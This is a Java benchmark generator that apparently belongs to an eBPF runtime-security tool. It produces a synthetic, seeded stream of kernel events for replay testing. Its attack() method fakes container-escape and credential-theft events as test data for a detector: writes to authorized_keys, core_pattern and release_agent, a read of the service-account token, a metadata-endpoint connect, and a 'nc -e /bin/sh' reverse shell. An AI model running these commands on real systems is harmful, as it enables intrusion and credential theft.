// SPDX-FileCopyrightText: The Vigilant authors
// SPDX-License-Identifier: Apache-2.0
package dev.vigilant.bench;

import dev.vigilant.source.FrameSink;
import dev.vigilant.source.Recording;
import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.Set;

/**
 * Makes what the eBPF programs would send of a busy node if they filtered nothing: services on the host and in thirty containers
 * that open, connect and accept, shells that start short-lived programs, and in two hundred events one that rules are
 * about. The same seed makes the same stream. 50,000 events a second of event time.
 *
 * <p>{@code java -cp bench/target/bench.jar dev.vigilant.bench.EventStream EVENTS FILE [SEED]} writes a recording for
 * {@code vigilant replay}.
 */
public final class EventStream {
    private static final long START_NANOS = 1_795_478_000_000_000_000L;
    private static final int MEAN_GAP_NANOS = 20_000;
    private static final int CONTAINERS = 30;
    private static final int SERVICES = 120;
    private static final int FIRST_PID = 1_000;
    private static final int LAST_PID = 4_000_000;

    /** One event in so many is an attack. */
    private static final int ATTACK_OF = 200;

    private static final String[] SERVICE_NAMES = {
        "nginx", "java", "postgres", "redis-server", "node", "python3", "php-fpm", "envoy", "kubelet", "containerd"
    };
    /** Who runs other programs; a database that does is an alert. */
    private static final Set<String> SHELLS_OUT = Set.of("java", "node", "python3", "php-fpm", "kubelet");

    /** Of opens; files are written in the last two. */
    private static final String[] DIRECTORIES = {
        "/usr/lib/x86_64-linux-gnu/libfoo.so.",
        "/srv/www/static/page",
        "/etc/app/conf.d/c",
        "/sys/fs/cgroup/memory/app/",
        "/usr/share/zoneinfo/Zone",
        "/proc/self/task/",
        "/var/lib/app/data/f",
        "/tmp/cache/object",
    };

    private static final int FIRST_WRITTEN = 6;
    private static final int FILES = 5_000;
    private static final String[][] COMMANDS = {
        {"/usr/bin/grep", "grep", "-q", "ready", "/tmp/state"},
        {"/bin/sed", "sed", "-e", "s/a/b/"},
        {"/usr/bin/date", "date", "+%s"},
        {"/usr/bin/stat", "stat", "-c", "%s", "/srv/www"},
        {"/usr/bin/gcc", "gcc", "-O2", "-c", "-o", "build/main.o", "src/main.c"},
        {"/usr/bin/git", "git", "status", "--porcelain"},
        {"/bin/cat", "cat", "/srv/www/index.html"},
        {"/usr/bin/redis-cli", "redis-cli", "ping"},
    };

    private final Random random;
    private final FrameSink sink;
    private final KernelRecord record = new KernelRecord();
    private final List<StreamProcess> services = new ArrayList<>();
    private final List<StreamProcess> running = new ArrayList<>();
    private long time = START_NANOS;
    private int lastPid = FIRST_PID;
    private long made;

    /** @param sink gets the records */
    public EventStream(FrameSink sink, long seed) {
        this.sink = sink;
        this.random = new Random(seed);
        for (int i = 0; i < SERVICES; i++) {
            int container = i % (CONTAINERS + 10);
            String cgroup =
                    container < CONTAINERS ? "/docker/" + String.format(Locale.ROOT, "%064x", container + 77) : "/";
            StreamProcess service = new StreamProcess(
                    nextPid(), 1, i % 3 == 0 ? 0 : 1000, SERVICE_NAMES[i % SERVICE_NAMES.length], cgroup);
            services.add(service);
            exec(service, "/usr/sbin/" + service.name(), service.name(), "--serve");
        }
    }

    /** Writes {@code args[0]} events to {@code args[1]}. */
    public static void main(String[] args) throws IOException {
        if (args.length < 2) {
            System.err.println("usage: EventStream EVENTS FILE [SEED]");
            System.exit(2);
        }
        try (Recording.Writer writer = new Recording.Writer(Path.of(args[1]))) {
            new EventStream(writer, args.length > 2 ? Long.parseLong(args[2]) : 1).make(Long.parseLong(args[0]));
        }
    }

    /** Makes at least so many records more. */
    public void make(long records) {
        long end = made + records;
        while (made < end) {
            step();
        }
    }

    private void step() {
        if (random.nextInt(ATTACK_OF) == 0) {
            attack(services.get(random.nextInt(SERVICES)));
            return;
        }
        int kind = random.nextInt(1000);
        StreamProcess by = kind % 3 == 0 && !running.isEmpty()
                ? running.get(random.nextInt(running.size()))
                : services.get(random.nextInt(SERVICES));
        if (kind < 700) {
            int directory = random.nextInt(DIRECTORIES.length);
            open(by, DIRECTORIES[directory] + file(), directory >= FIRST_WRITTEN && kind % 2 == 0);
        } else if (kind < 760) {
            connect(by, 10, 0, random.nextInt(4), 1 + random.nextInt(250), random.nextInt(3) == 0 ? 5432 : 443);
        } else if (kind < 800) {
            send(record.call("accept4", by, 9, 4, 0, 0, 0x80000).address(255, sockaddr(10, 0, 9, 9, 40_000)));
        } else if (kind < 835) {
            start(SHELLS_OUT.contains(by.name()) ? by : services.get(4));
        } else if (kind < 870) {
            end();
        } else {
            other(by, kind);
        }
    }

    /** Few files are used often, most hardly ever. */
    private int file() {
        return (int) (FILES * Math.pow(random.nextDouble(), 4));
    }

    private void other(StreamProcess by, int kind) {
        String file = "/tmp/cache/object" + file();
        if (kind < 900) {
            send(record.call("unlink", by, 0).path(0, file));
        } else if (kind < 925) {
            send(record.call("rename", by, 0).path(0, file + ".new").path(1, file));
        } else if (kind < 940) {
            send(record.call("mkdir", by, 0, 0, 0755).path(0, file + ".d"));
        } else if (kind < 950) {
            send(record.call("chmod", by, 0, 0, 0644).path(0, file));
        } else if (kind < 980) {
            send(record.call("socket", by, 5, 2, 1, 0));
        } else if (kind < 990) {
            send(record.call("dup2", by, 1, 5, 1));
        } else if (kind < 995) {
            send(record.call("bind", by, 0, 3, 0, 16).address(1, sockaddr(0, 0, 0, 0, 8080)));
        } else {
            send(record.call("listen", by, 0, 3, 128));
        }
    }

    private void open(StreamProcess by, String path, boolean write) {
        send(record.call("openat", by, 7, -100, 0, write ? 0x241 : 0x80000, 0644)
                .path(1, path)
                .file(path.hashCode() & 0xffffff, path));
    }

    private void connect(StreamProcess by, int a, int b, int c, int d, int port) {
        send(record.call("connect", by, 0, 3, 0, 16).address(1, sockaddr(a, b, c, d, port)));
    }

    private static byte[] sockaddr(int a, int b, int c, int d, int port) {
        byte[] address = new byte[16];
        address[0] = 2;
        address[2] = (byte) (port >> 8);
        address[3] = (byte) port;
        address[4] = (byte) a;
        address[5] = (byte) b;
        address[6] = (byte) c;
        address[7] = (byte) d;
        return address;
    }

    /** A child that executes another program. */
    private void start(StreamProcess by) {
        String[] command = COMMANDS[random.nextInt(COMMANDS.length)];
        StreamProcess child = new StreamProcess(nextPid(), by.pid(), by.uid(), command[1], by.cgroup());
        send(record.begin(KernelRecord.FORK, by).result(child.pid()));
        String[] argv = new String[command.length - 1];
        System.arraycopy(command, 1, argv, 0, argv.length);
        exec(child, command[0], argv);
        running.add(child);
    }

    private void exec(StreamProcess by, String file, String... argv) {
        send(record.begin(KernelRecord.EXEC, by)
                .path(0, file)
                .file(file.hashCode() & 0xffffff, file)
                .program(by.cgroup(), argv));
    }

    private void end() {
        if (!running.isEmpty()) {
            send(record.begin(KernelRecord.EXIT, running.remove(random.nextInt(running.size()))));
        }
    }

    private void attack(StreamProcess by) {
        if (!by.contained()) {
            open(by, "/root/.ssh/authorized_keys", true);
            return;
        }
        switch (random.nextInt(6)) {
            case 0 -> open(by, "/proc/sys/kernel/core_pattern", true);
            case 1 -> open(by, "/tmp/cg/release_agent", true);
            case 2 -> open(by, "/var/run/secrets/kubernetes.io/serviceaccount/token", false);
            case 3 -> connect(by, 169, 254, 169, 254, 80);
            case 4 ->
                send(record.call("mount", by, 0, 0, 0, 0, 0)
                        .path(0, "/dev/sda1")
                        .path(1, "/mnt")
                        .text(2, "ext4"));
            default -> {
                StreamProcess child = new StreamProcess(nextPid(), by.pid(), by.uid(), "nc", by.cgroup());
                send(record.begin(KernelRecord.FORK, by).result(child.pid()));
                exec(child, "/usr/bin/nc", "nc", "-e", "/bin/sh", "10.0.0.66", "4444");
                running.add(child);
            }
        }
    }

    private int nextPid() {
        lastPid = lastPid == LAST_PID ? FIRST_PID : lastPid + 1;
        return lastPid;
    }

    private void send(KernelRecord ready) {
        time += 1 + random.nextInt(2 * MEAN_GAP_NANOS);
        made++;
        ready.to(sink, time);
    }
}
